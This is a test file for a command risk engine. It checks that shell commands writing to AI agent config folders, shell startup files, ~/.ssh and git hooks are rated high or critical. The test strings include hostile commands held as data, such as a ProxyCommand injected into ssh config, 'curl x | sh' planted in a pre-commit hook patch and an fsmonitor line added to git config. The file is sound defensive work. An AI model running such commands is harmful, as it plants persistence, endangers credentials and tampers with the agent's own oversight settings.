// The places where writing hands control to an agent, a shell, git or ssh (guarded.ts), held however they are
// written: copies, moves, extraction, in-place edits, tee, dd, links, one-liners, patches, a folder copied whole, the
// hooks folder core.hooksPath names. The commands are only ever scored, never run.
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { RiskEngine } from '../../../../electron/core/risk/engine.ts';
import { createRiskEngine } from '../../../../electron/core/risk/index.ts';
import { PROJECT, testContextOptions } from '../../../support/risk.ts';
import { machine } from '../../../support/risk-machine.ts';

let engine: RiskEngine;
beforeAll(async () => {
  engine = await createRiskEngine(testContextOptions());
});
const level = (cmd: string, cwd = PROJECT) => engine.assess(cmd, cwd).level;
const HIGH = ['high', 'critical'];

describe('protected places, any way of writing them', () => {
  it.each([
    'cp x .claude/',
    'cp -r d .claude',
    'cp -t .claude x',
    'mv a ~/.ssh/',
    'tar -xf a.tar -C .claude',
    'unzip a.zip -d ~/.codex',
    'unzip -o a.zip -d ~/.claude',
    "sed -i 's/a/b/' .claude/settings.json",
    'echo {} | tee .claude/settings.local.json',
    'echo x | tee -a ~/.bashrc',
    'dd if=x of=.claude/settings.json',
    'truncate -s 0 ~/.zshrc',
    'echo x > .git/hooks/pre-commit',
    'install -m 755 hook .git/hooks/',
    'ln -sf /tmp/x ~/.claude/settings.json',
    'echo {} > .mcp.json',
    'echo x > .cursor/mcp.json',
    'echo x > .cursor/hooks.json',
    'cp x ~/.gemini/settings.json',
    'cp x .codex/config.toml',
    'echo x >> ~/.config/fish/config.fish',
    'echo "[core] fsmonitor=x" >> .git/config',
    'rm -rf .claude',
    'mv ~/.codex /tmp/old',
    'chmod 000 .claude',
    "python3 -c \"open('.cursor/mcp.json','w').write('{}')\"",
    "node -e \"require('fs').writeFileSync('.claude/agents/x.md', 'x')\"",
    'tar -xf a.tar .claude/settings.json',
  ])('%s is critical', (cmd) => expect(level(cmd)).toBe('critical'));

  it('holds husky hooks and extraction over the project or home at high', () => {
    expect(level('cp hook .husky/pre-commit')).toBe('high');
    for (const cmd of ['tar -xf a.tar', 'unzip a.zip', 'curl -sL https://x.example/a.tgz | tar xz']) {
      const r = engine.assess(cmd, PROJECT);
      expect(HIGH, cmd).toContain(r.level);
    }
    expect(engine.assess('tar -xf a.tar', PROJECT).reasons.join(' ')).toContain('.claude/');
    expect(level('tar -xf a.tar', '/home/dev')).toBe('high');
    expect(level('tar -xf a.tar -C build')).toBe('low');
  });

  it.each([
    'mkdir -p .cursor/rules',
    'mv rule.mdc .cursor/rules/',
    'echo x >> .cursor/rules/a.mdc',
    'cat .vscode/settings.json',
    'ls .claude/commands',
    'cat .claude-transcripts/a.md',
    'git add .cursor/rules/a.mdc',
  ])('%s stays low', (cmd) => {
    expect(level(cmd)).toBe('low');
  });

  it("holds ~/.ssh's keys and config critical, and recording a host in known_hosts high as before", () => {
    expect(level('echo "Host *\\n ProxyCommand x" >> ~/.ssh/config')).toBe('critical');
    expect(level('cp id /home/dev/.ssh/')).toBe('critical');
    expect(level('ssh-keyscan github.com >> ~/.ssh/known_hosts')).toBe('high');
  });

  it('caps making an empty file or folder there at medium', () => {
    expect(level('mkdir -p .claude/commands')).toBe('medium');
    expect(level('touch .git/hooks/pre-push')).toBe('medium');
  });

  it('sees a folder copied into the project bring its own .claude along', async () => {
    const m = await machine({
      'project/template/.claude/settings.json': '{}',
      'project/template/README.md': '',
      'project/plain/README.md': '',
    });
    expect(m.assess('cp -r template/. .').level).toBe('critical');
    expect(m.assess('rsync -a template/ ./').level).toBe('critical');
    expect(m.assess('cp -r plain/. .').level).toBe('low');
  });

  it('judges a link by where it points: writing to it later writes there', async () => {
    const m = await machine({ '.bashrc': '', 'project/README.md': '' });
    expect(m.assess('ln -s ~/.claude cfg').level).toBe('critical');
    expect(m.assess('ln -s ~/.bashrc notes.txt').level).toBe('critical');
    expect(m.assess('ln -sf ~/.ssh/authorized_keys keys').level).toBe('critical');
    expect(m.assess('ln -s ~/.claude cfg && echo x > cfg/settings.json').level).toBe('critical');
    // A system program is root's to write; a project file is the project's.
    expect(m.assess('ln -s /usr/bin/python3 py').level).toBe('low');
    expect(m.assess('ln -s README.md docs.md').level).toBe('low');
    // A link made earlier: a write through it lands where it leads.
    fs.mkdirSync(path.join(m.home, '.claude'), { recursive: true });
    fs.symlinkSync(path.join(m.home, '.claude'), path.join(m.project, 'cfg'));
    expect(m.assess('echo x > cfg/settings.json').level).toBe('critical');
    expect(m.assess('cp a.json cfg/').level).toBe('critical');
    expect(m.assess('rm cfg/settings.json').level).toBe('critical');
    expect(m.assess('rm -rf cfg/').level).toBe('critical');
    // The link itself, named without a slash, is only the link.
    expect(m.assess('rm cfg').level).toBe('medium');
    expect(m.assess('echo x > notes.txt').level).toBe('low');
  });

  it('judges a glob that reaches .git by what it deletes', async () => {
    const m = await machine({ 'project/.gitignore': '', 'project/.env.example': '' });
    for (const cmd of ['rm -rf .[!.]*', 'rm -rf .g*', 'rm -rf .??*']) expect(m.assess(cmd).level, cmd).toBe('high');
    expect(m.assess('rm -f .e*.example').level).toBe('medium');
  });

  it('knows the hooks folder core.hooksPath names', async () => {
    const m = await machine({ 'project/.git/config': '[core]\n\thooksPath = .githooks\n' });
    expect(m.assess('echo x > .githooks/pre-commit').level).toBe('high');
    const away = await machine({ 'project/.git/config': '[core]\n\thooksPath = ~/hooks\n' });
    expect(away.assess('echo x > ~/hooks/pre-commit').level).toBe('critical');
  });

  it('reads the patch git apply, git am and patch apply', async () => {
    const evil =
      'diff --git a/.claude/settings.json b/.claude/settings.json\nnew file mode 100644\n--- /dev/null\n+++ b/.claude/settings.json\n@@ -0,0 +1 @@\n+{"hooks": {}}\n';
    const fine = 'diff --git a/src/a.ts b/src/a.ts\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-a\n+b\n';
    const hook = '--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n';
    const m = await machine({ 'project/evil.patch': evil, 'project/fine.patch': fine, 'project/hook.diff': hook });
    expect(m.assess('git apply evil.patch').level).toBe('critical');
    expect(m.assess('git am evil.patch').level).toBe('critical');
    expect(m.assess('cat evil.patch | git apply').level).toBe('critical');
    expect(m.assess(`git apply <<'EOF'\n${evil}EOF`).level).toBe('critical');
    expect(m.assess('patch -p1 < hook.diff').level).toBe('critical');
    expect(m.assess('patch -p1 -i hook.diff').level).toBe('critical');
    expect(m.assess('git apply fine.patch').level).toBe('low');
    expect(m.assess('patch -p1 < fine.patch').level).toBe('low');
    expect(m.assess('git apply --check evil.patch').level).toBe('low');
    // Not there, in a folder that is: the command may write it first (as a script that is not there).
    expect(m.assess('git apply missing.patch').level).toBe('medium');
    expect(
      m.assess(
        "applypatch <<'PATCH'\n*** Begin Patch\n*** Add File: .claude/settings.local.json\n+{}\n*** End Patch\nPATCH",
      ).level,
    ).toBe('critical');
  });

  it('does not let a protected file hide behind more files than it judges', async () => {
    const m = await machine();
    const ordinary = Array.from({ length: 250 }, (_, i) => `*** Add File: src/f${i}.txt\n+x\n`).join('');
    const a = m.assess(
      `apply_patch <<'PATCH'\n*** Begin Patch\n${ordinary}*** Add File: .claude/settings.json\n+{}\n*** End Patch\nPATCH`,
    );
    expect(a.categories).toContain('unparsed');
    expect(a.reasons.join(' | ')).toContain('names more than 200 files');
    expect(
      m.assess(`apply_patch <<'PATCH'\n*** Begin Patch\n${ordinary.slice(0, 2000)}*** End Patch\nPATCH`).categories,
    ).not.toContain('unparsed');
  });
});
